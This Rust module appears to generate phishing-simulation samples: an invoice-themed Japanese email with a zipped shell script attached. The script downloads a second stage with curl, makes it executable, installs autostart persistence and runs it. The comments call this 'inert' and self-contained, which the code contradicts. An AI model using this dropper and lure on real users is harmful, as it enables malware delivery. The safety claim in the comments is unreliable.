//! The mails of the story: inert samples, new in every run so that nobody knows their hashes.

use anyhow::Result;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use std::io::{Cursor, Write};
use std::net::SocketAddr;

/// Address the attack comes from.
pub const SENDER: &str = "accounts@partner-invoices.example";
/// Name of the file inside the archive.
pub const SCRIPT: &str = "invoice.sh";

/// The attachment: a script in an archive, harmless by what it does.
pub struct Sample {
    /// The script.
    pub script: Vec<u8>,
    /// The archive that holds it.
    pub archive: Vec<u8>,
}

impl Sample {
    /// Makes a sample whose second stage lies at `address`.
    pub fn new(address: SocketAddr) -> Result<Sample> {
        let nonce = uuid::Uuid::now_v7();
        let script = format!(
            r#"#!/bin/sh
# Hinomi story: an inert sample {nonce}. Everything it does stays in the folder it runs in.
uname -a > /dev/null
id > /dev/null
curl -s -m 5 -o "$HOME/.cache/.update" "http://{address}/stage2"
chmod +x "$HOME/.cache/.update"
mkdir -p "$HOME/.config/autostart"
printf '[Desktop Entry]\nType=Application\nName=Update\nExec=%s\n' "$HOME/.cache/.update" > "$HOME/.config/autostart/update.desktop"
"$HOME/.cache/.update" &
wait
"#
        )
        .into_bytes();
        let mut archive = zip::ZipWriter::new(Cursor::new(Vec::new()));
        archive.start_file(SCRIPT, zip::write::SimpleFileOptions::default().unix_permissions(0o755))?;
        archive.write_all(&script)?;
        Ok(Sample { script, archive: archive.finish()?.into_inner() })
    }

    /// The mail that carries it.
    pub fn mail(&self, to: &str) -> Vec<u8> {
        let boundary = "=_hinomi_story";
        let encoded = STANDARD.encode(&self.archive);
        let lines: Vec<&str> =
            encoded.as_bytes().chunks(76).map(|line| std::str::from_utf8(line).expect("base64 is ASCII")).collect();
        format!(
            "From: =?UTF-8?B?{name}?= <{SENDER}>\r\nTo: {to}\r\nSubject: =?UTF-8?B?{subject}?=\r\n\
             Message-ID: <{id}@partner-invoices.example>\r\nDate: {date}\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/mixed; boundary=\"{boundary}\"\r\n\r\n\
             --{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\
             お世話になっております。請求書をお送りします。\r\nhttp://partner-invoices.example/terms\r\n\r\n\
             --{boundary}\r\nContent-Type: application/zip; name=\"invoice.zip\"\r\n\
             Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"invoice.zip\"\r\n\r\n\
             {body}\r\n--{boundary}--\r\n",
            name = STANDARD.encode("経理部"),
            subject = STANDARD.encode("請求書の件"),
            id = uuid::Uuid::now_v7(),
            date = rfc2822_now(),
            body = lines.join("\r\n"),
        )
        .into_bytes()
    }
}

fn rfc2822_now() -> String {
    use lettre::message::header::{Date, Headers};
    let mut headers = Headers::new();
    headers.set(Date::now());
    headers.get_raw("Date").unwrap_or_default().to_owned()
}
